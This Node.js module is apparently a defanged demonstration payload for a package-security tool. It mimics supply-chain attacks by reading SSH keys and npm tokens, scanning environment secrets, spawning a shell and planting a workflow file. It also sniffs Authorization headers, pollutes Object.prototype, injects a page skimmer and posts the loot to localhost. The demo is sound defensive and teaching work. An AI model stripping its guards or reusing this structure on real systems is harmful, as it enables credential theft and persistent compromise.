'use strict';
// The moves of three real attacks, with the teeth pulled:
//   event-stream 2018   patched another package in memory to steal from it
//   axios 2026          fingerprinted the machine, reported home, started a shell
//   Shai-Hulud 2025     searched home and environment for tokens, sent them off, left a workflow file behind
//
// Harmless anywhere: it reads and writes only beneath a home directory that holds the marker file
// `.packsec-demo`, takes only environment values that start with "demo-", and talks only to 127.0.0.1.
// Every move is tried on its own and notes what came of it, because the demo wants to print it.
// A real payload would stay silent.

const report = {};
const note = (what, outcome) => { report[what] = outcome; };
const blocked = (error) => ({ got: false, text: String((error && error.code) || error.message || error) });

// A move returns what it got, or nothing. One that must wait for its catch calls note() later.
function attempt(what, move, otherwise = 'found nothing') {
  note(what, { got: false, text: otherwise });
  try {
    const text = move();
    if (text) note(what, { got: true, text: String(text) });
  } catch (error) {
    note(what, blocked(error));
  }
}

// ---- where is home? -----------------------------------------------------------------------------

function homes() {
  const found = [];
  try { found.push(require('os').homedir()); } catch {}
  try { found.push(process.env.HOME); } catch {}
  try {
    const fs = require('fs');
    for (const name of fs.readdirSync('/tmp')) {
      if (name.startsWith('packsec-demo-')) found.push(`/tmp/${name}/home`);
    }
  } catch {}
  return found.filter(Boolean);
}

function fakeHome() {
  const fs = require('fs');
  const home = homes().find((dir) => fs.existsSync(`${dir}/.packsec-demo`));
  if (!home) fs.readFileSync('/tmp/.packsec-demo'); // says ENOENT or EACCES, as the case may be
  return home;
}

const loot = {};

attempt('read the private ssh key', () => {
  loot.key = require('fs').readFileSync(`${fakeHome()}/.ssh/id_rsa`, 'utf8');
  return `${loot.key.length} bytes`;
});

attempt('read the npm token', () => {
  loot.npm = /_authToken=(.*)/.exec(require('fs').readFileSync(`${fakeHome()}/.npmrc`, 'utf8'))[1];
  return loot.npm;
});

attempt('scan the environment for tokens', () => {
  const names = Object.keys(process.env).filter((name) =>
    /TOKEN|SECRET|KEY/.test(name) && String(process.env[name]).startsWith('demo-'));
  loot.env = Object.fromEntries(names.map((name) => [name, process.env[name]]));
  return names.join(' ');
});

attempt('fingerprint the machine', () => {
  const os = require('os');
  loot.machine = `${os.userInfo().username}@${os.hostname()}`;
  return `user and host name, ${os.cpus().length} cpus`;
});

attempt('start a shell', () =>
  require('child_process').execFileSync('/bin/sh', ['-c', 'echo a shell, uid $(id -u)']).toString().trim());

attempt('leave a workflow file behind', () => {
  const fs = require('fs');
  const dir = `${fakeHome()}/site/.github/workflows`;
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(`${dir}/build.yml`, 'on: push\njobs: {}\n');
  return 'build.yml written';
});

// ---- what the application does is watched from now on ---------------------------------------------

attempt('sniff Authorization headers', () => {
  const { Server } = require('http');
  const emit = Server.prototype.emit;
  Server.prototype.emit = function (event, request, ...rest) {
    const header = event === 'request' && request.headers.authorization;
    if (header) note('sniff Authorization headers', { got: true, text: header });
    return Reflect.apply(emit, this, [event, request, ...rest]);
  };
}, 'saw none');

attempt('pollute Object.prototype', () => {
  Object.defineProperty(Object.prototype, 'isAdmin', { value: true, configurable: true });
  return ({}).isAdmin && 'everybody is an administrator';
});

attempt('inject a script into the pages', () => {
  const ejs = require('ejs');
  const render = ejs.renderFile;
  const skimmer = '<script>/* card skimmer */</script>';
  ejs.renderFile = ejs.__express = (file, data, done) =>
    render(file, data, (error, html) => done(error, error ? html : html.replace('</body>', `${skimmer}</body>`)));
  return ejs.renderFile !== render && 'every page';
});

// ---- and home it goes: the demo listens on the first of these ports that is free --------------------

function send(port) {
  const request = require('http').request(
    { host: '127.0.0.1', port, method: 'POST', path: '/packsec-demo', timeout: 2000 },
    (response) => {
      response.resume();
      if (response.headers['x-packsec-demo']) note('send it all to a server', { got: true, text: `127.0.0.1:${port}` });
    });
  request.on('error', (error) => {
    if (!report['send it all to a server'].got) note('send it all to a server', blocked(error));
  });
  request.end(JSON.stringify(loot));
}

attempt('send it all to a server', () => {
  for (const port of [48733, 48734, 48735]) send(port);
}, 'no answer');

module.exports = report;
